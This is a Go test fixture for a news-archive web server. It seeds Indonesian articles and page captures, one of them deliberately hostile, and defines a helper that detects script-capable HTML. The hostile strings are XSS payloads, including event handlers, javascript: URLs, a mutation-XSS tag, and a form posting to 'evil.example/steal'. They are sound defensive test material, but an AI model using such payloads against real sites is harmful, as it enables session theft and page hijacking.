package web

import (
	"bytes"
	"context"
	"image"
	"image/color"
	"image/png"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/warta-id/warta/archive"
	"github.com/warta-id/warta/crawler"
	"github.com/warta-id/warta/extract"
	"github.com/warta-id/warta/index"
	"github.com/warta-id/warta/runlog"
)

// The fixture archive: three articles of site "kota", one with two
// versions, one hostile, and captures of their pages and one image.
const (
	urlBanjir  = "https://kota.example/baca/banjir-talawi"
	urlTambang = "https://kota.example/baca/tambang-batubara"
	urlHostile = "https://kota.example/baca/hostile"
	urlImage   = "https://kota.example/wp-content/uploads/2021/12/banjir-1.png"
	urlNoImage = "https://kota.example/wp-content/uploads/2021/12/banjir-2.jpg"
)

var (
	idBanjir  = extract.ArticleID("kota", urlBanjir)
	idTambang = extract.ArticleID("kota", urlTambang)
	idHostile = extract.ArticleID("kota", urlHostile)
)

// hostileText is what an archived page might carry to attack the UI.
const hostileText = `<script>alert("xss")</script><img src=x onerror="alert(1)"> <a href="javascript:alert(2)">klik</a>`

// hostilePage is an archived HTML page that tries everything.
const hostilePage = `<!doctype html><html><head><title>Hostile</title>
<script>document.cookie="stolen=1"</script>
<base href="https://evil.example/">
<link rel="stylesheet" href="/style.css">
<meta http-equiv="refresh" content="0;url=javascript:alert(3)">
</head><body onload="alert(4)">
<h1 onclick="alert(5)">Judul berbahaya</h1>
<p>Teks <a href="javascript:alert(6)">tautan</a> dan <a href="/baca/lain">lain</a>.</p>
<img src="/wp-content/uploads/2021/12/banjir-1.png" onerror="alert(7)" srcset="x.png 2x">
<iframe src="https://evil.example/frame"></iframe>
<object data="evil.swf"></object>
<form action="https://evil.example/steal"><input name="p"></form>
<svg><script>alert(8)</script></svg>
<style>body{background:url(javascript:alert(9))}</style>
<div style="background:url(https://evil.example/track.png)">gaya</div>
<scr<script>ipt>alert(10)</script>
</body></html>`

// wib is the fixture site's time zone (Western Indonesia Time).
var wib = time.FixedZone("WIB", 7*3600)

type fixture struct {
	dir   string
	store *archive.Store
	idx   *index.Index
	srv   *Server
}

// newFixture writes the fixture archive, index and run records into a
// temp dir, reopens them as `warta serve` does (archive read-only) and
// returns a Server over them.
func newFixture(t *testing.T, mod func(*Options)) *fixture {
	t.Helper()
	dir := t.TempDir()
	w, err := archive.Open(dir, archive.Options{})
	if err != nil {
		t.Fatalf("archive.Open: %v", err)
	}
	widx, err := index.Open(filepath.Join(dir, "index"), index.Options{})
	if err != nil {
		t.Fatalf("index.Open: %v", err)
	}
	fetched := time.Date(2026, 11, 28, 9, 0, 0, 0, time.UTC)
	banjir := &extract.Article{
		ID: idBanjir, Site: "kota", URL: urlBanjir,
		Title:      "Banjir Rendam Rumah Warga di Talawi",
		Published:  "2021-12-23T09:15:41+07:00",
		DateSource: "json-ld",
		Dateline:   extract.Dateline{Place: "SAWAHLUNTO"},
		Author:     "Humas",
		Body:       "SAWAHLUNTO – Banjir merendam rumah warga di Talawi.\n\nBPBD menyalurkan bantuan.",
		Images: []extract.Image{
			{URL: urlImage, Caption: "Warga membersihkan lumpur", Alt: "banjir"},
			{URL: urlNoImage, Caption: "Posko bantuan"},
		},
		Categories: []string{"Kabar Pemerintah"},
		Tags:       []string{"banjir"},
		Language:   "id", Extractor: "profile:kota",
		FetchedAt: fetched.Format(time.RFC3339),
		// The first version came from a web archive (warta backfill).
		Source: "wayback", SourceURL: "https://web.archive.org/web/20261128090000id_/" + urlBanjir,
	}
	banjir2 := *banjir
	banjir2.Source, banjir2.SourceURL = "", ""
	banjir2.Body = "SAWAHLUNTO – Banjir merendam puluhan rumah warga di Talawi.\n\nBPBD menyalurkan bantuan."
	banjir2.FetchedAt = fetched.Add(24 * time.Hour).Format(time.RFC3339)
	tambang := &extract.Article{
		ID: idTambang, Site: "kota", URL: urlTambang,
		Title:      "Tambang Batubara Ombilin Jadi Warisan Dunia",
		Published:  "2022-03-01T10:00:00+07:00",
		DateSource: "meta",
		Body:       "Tambang batubara Ombilin di Sawahlunto menjadi warisan dunia UNESCO.",
		Images:     []extract.Image{}, Categories: []string{"Pariwisata"}, Tags: []string{},
		Language: "id", Extractor: "generic", FetchedAt: fetched.Format(time.RFC3339),
	}
	hostile := &extract.Article{
		ID: idHostile, Site: "kota", URL: urlHostile,
		Title:      `<script>alert("title")</script> Berita talawi`,
		Published:  "2022-03-15T08:00:00+07:00",
		DateSource: "time",
		Author:     `"><svg onload=alert(1)>`,
		Body:       "Talawi " + hostileText + "\n\nParagraf kedua <b onmouseover=alert(3)>tebal</b>.",
		Images:     []extract.Image{{URL: "javascript:alert(11)", Caption: `<img src=x onerror=alert(12)>`}},
		Categories: []string{`<i onclick=alert(13)>kat</i>`},
		Tags:       []string{`"onmouseover="alert(14)`},
		Language:   "id", Extractor: "generic", FetchedAt: fetched.Format(time.RFC3339),
		Source: `"><script>alert(15)</script>`, SourceURL: "javascript:alert(16)",
	}
	for _, a := range []*extract.Article{banjir, &banjir2, tambang, hostile} {
		if _, err := w.SaveArticle(a); err != nil {
			t.Fatalf("SaveArticle(%s): %v", a.ID, err)
		}
	}
	if err := widx.Add(context.Background(), &banjir2, tambang, hostile); err != nil {
		t.Fatalf("index.Add: %v", err)
	}
	htmlHeader := http.Header{"Content-Type": {"text/html; charset=UTF-8"}}
	captures := []*archive.Capture{
		{URL: urlBanjir, Status: 200, Header: htmlHeader, Body: []byte(`<html><head><title>Banjir</title></head><body><h1>Banjir</h1><p>versi satu</p><img src="/wp-content/uploads/2021/12/banjir-1.png"></body></html>`), FetchedAt: fetched},
		{URL: urlBanjir, Status: 200, Header: htmlHeader, Body: []byte(`<html><head><title>Banjir</title></head><body><h1>Banjir</h1><p>versi dua</p></body></html>`), FetchedAt: fetched.Add(24 * time.Hour)},
		{URL: urlHostile, Status: 200, Header: htmlHeader, Body: []byte(hostilePage), FetchedAt: fetched},
		{URL: urlImage, Status: 200, Header: http.Header{"Content-Type": {"image/png"}}, Body: testPNG(t), FetchedAt: fetched},
		{URL: "https://kota.example/feed/", Status: 200, Header: http.Header{"Content-Type": {"application/rss+xml"}}, Body: []byte(`<rss><script>alert(1)</script></rss>`), FetchedAt: fetched},
	}
	for _, c := range captures {
		if _, err := w.SaveCapture(c); err != nil {
			t.Fatalf("SaveCapture(%s): %v", c.URL, err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("archive Close: %v", err)
	}
	if err := widx.Close(); err != nil {
		t.Fatalf("index Close: %v", err)
	}
	runs := []*runlog.Record{
		{Site: "kota", Trigger: "schedule", Status: runlog.StatusOK,
			Started: fetched, Finished: fetched.Add(90 * time.Second),
			Crawl:    &crawler.Summary{Pages: 12, Statuses: map[int]int{200: 10, 404: 2}, ErrorCount: 2},
			Pipeline: runlog.Counts{New: 3, Changed: 0, Captures: 12}},
		{Site: "kota", Trigger: "schedule", Status: runlog.StatusFailed, Error: "fetch https://kota.example/: connection refused",
			Started: fetched.Add(24 * time.Hour), Finished: fetched.Add(24*time.Hour + 3*time.Second),
			Crawl:    &crawler.Summary{Pages: 1, Statuses: map[int]int{200: 1}, ErrorCount: 1},
			Pipeline: runlog.Counts{Changed: 1, Errors: 1}},
	}
	for _, r := range runs {
		if err := runlog.Write(dir, r); err != nil {
			t.Fatalf("runlog.Write: %v", err)
		}
	}

	store, err := archive.Open(dir, archive.Options{ReadOnly: true})
	if err != nil {
		t.Fatalf("archive.Open read-only: %v", err)
	}
	t.Cleanup(func() { store.Close() })
	idx, err := index.Open(filepath.Join(dir, "index"), index.Options{})
	if err != nil {
		t.Fatalf("index.Open: %v", err)
	}
	t.Cleanup(func() { idx.Close() })
	opt := Options{
		Searcher: idx, Articles: store, Captures: store, DataDir: dir,
		Sites:    []Site{{Name: "kota", Title: "Pemerintah Kota", BaseURL: "https://kota.example/", Location: wib}},
		Location: wib,
	}
	if mod != nil {
		mod(&opt)
	}
	srv, err := New(opt)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return &fixture{dir: dir, store: store, idx: idx, srv: srv}
}

func testPNG(t *testing.T) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 4, 3))
	for x := range 4 {
		for y := range 3 {
			img.Set(x, y, color.RGBA{R: 200, G: 100, B: 50, A: 255})
		}
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// get runs one GET request through the server.
func (f *fixture) get(t *testing.T, target string, header ...string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(http.MethodGet, target, nil)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	rec := httptest.NewRecorder()
	f.srv.ServeHTTP(rec, req)
	return rec
}

// unsafeHTML lists what in an HTML document could run script: script
// elements, event handler attributes, javascript: URLs, and frames
// without a sandbox.
func unsafeHTML(t *testing.T, doc string) []string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatalf("html.Parse: %v", err)
	}
	var bad []string
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "object", "embed", "base":
			bad = append(bad, "<"+n.Data+">")
		case "form":
			if a := attrOf(n, "action"); !strings.HasPrefix(a, "/") || strings.HasPrefix(a, "//") {
				bad = append(bad, "<form action="+a+">")
			}
		case "iframe":
			sandboxed := false
			for _, a := range n.Attr {
				if a.Key == "sandbox" && a.Val == "" {
					sandboxed = true
				}
			}
			if !sandboxed {
				bad = append(bad, "<iframe> without an empty sandbox attribute")
			}
		case "meta":
			for _, a := range n.Attr {
				if a.Key == "http-equiv" {
					bad = append(bad, "<meta http-equiv>")
				}
			}
		}
		for _, a := range n.Attr {
			key := strings.ToLower(a.Key)
			val := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			if strings.HasPrefix(key, "on") {
				bad = append(bad, "<"+n.Data+" "+a.Key+">")
			}
			if (key == "href" || key == "src" || key == "action" || key == "formaction" || key == "data") &&
				(strings.HasPrefix(val, "javascript:") || strings.HasPrefix(val, "vbscript:") || strings.HasPrefix(val, "data:text")) {
				bad = append(bad, "<"+n.Data+" "+a.Key+"="+a.Val+">")
			}
			if key == "style" && !cssLoadsReplayOnly(val) {
				bad = append(bad, "<"+n.Data+" style with a url() outside the replay>")
			}
			// What a page loads (a link to the original page is no load).
			if (key == "href" && n.Data == "link") || key == "src" || key == "poster" || key == "srcset" || key == "background" {
				for _, f := range strings.Split(val, ",") {
					if strings.HasPrefix(f, "http:") || strings.HasPrefix(f, "https:") || strings.HasPrefix(f, "//") {
						bad = append(bad, "<"+n.Data+" "+a.Key+"="+a.Val+"> points at the live web")
					}
				}
			}
		}
		if n.Data == "style" && n.FirstChild != nil && !cssLoadsReplayOnly(strings.ToLower(strings.Join(strings.Fields(n.FirstChild.Data), ""))) {
			bad = append(bad, "<style> with a url() outside the replay")
		}
	}
	return bad
}

// cssLoadsReplayOnly reports whether every url() in css (lower case, no
// spaces) is the replay route's, a data: image or inert.
func cssLoadsReplayOnly(css string) bool {
	for i := strings.Index(css, "url("); i >= 0; i = strings.Index(css, "url(") {
		css = strings.TrimLeft(css[i+4:], `"'`)
		if !strings.HasPrefix(css, "/replay?") && !strings.HasPrefix(css, "data:image/") && !strings.HasPrefix(css, "about:invalid") {
			return false
		}
	}
	return true
}

func attrOf(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}
